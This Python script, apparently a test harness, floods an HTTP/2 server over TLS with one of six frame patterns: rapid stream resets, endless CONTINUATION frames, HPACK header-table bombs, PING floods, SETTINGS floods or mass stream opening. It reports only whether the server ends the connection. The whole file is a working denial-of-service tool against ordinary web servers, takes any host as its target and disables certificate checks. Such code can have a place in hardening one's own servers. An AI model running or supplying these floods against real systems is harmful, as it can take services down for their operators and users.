"""Floods a node with frames of HTTP/2, and reads nothing; says whether the node put an end to it."""
import socket, ssl, sys

host, kind = sys.argv[1:]
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
context.set_alpn_protocols(["h2"])
stream = context.wrap_socket(socket.create_connection((host, 443), 20))


def frame(kind, flags, number, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + number.to_bytes(4, "big") + payload


# :method CONNECT, :authority 192.0.2.1:80, neither in the table
CONNECT = b"\x02\x07CONNECT\x01\x0c192.0.2.1:80"


def frames():
    if kind == "resets":
        for number in range(1, 100_001, 2):
            yield frame(1, 4, number, CONNECT) + frame(3, 0, number, b"\0\0\0\x08")
    elif kind == "continuations":
        yield frame(1, 0, 1, CONNECT)
        for _ in range(50_000):
            yield frame(9, 0, 1, b"\0\x01a\x7f\x80\x07" + b"b" * 1151)
    elif kind == "bombs":
        # a header of 4,000 octets in the table, then named four thousand times a block
        for number in range(1, 2001, 2):
            yield frame(1, 4, number, CONNECT + b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000 + b"\xbe" * 4000)
    elif kind == "pings":
        for _ in range(200_000):
            yield frame(6, 0, 0, b"12345678")
    elif kind == "settings":
        for _ in range(200_000):
            yield frame(4, 0, 0, b"\0\x04\0\x01\0\0")
    elif kind == "streams":
        for number in range(1, 20_001, 2):
            yield frame(1, 4, number, CONNECT)


stream.settimeout(5)
batch = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
try:
    for piece in frames():
        batch += piece
        if len(batch) > 16384:
            stream.sendall(batch)
            batch = b""
    stream.sendall(batch)
    print("it took all")
except TimeoutError:
    print("it read no more")
except OSError:
    print("it ended")
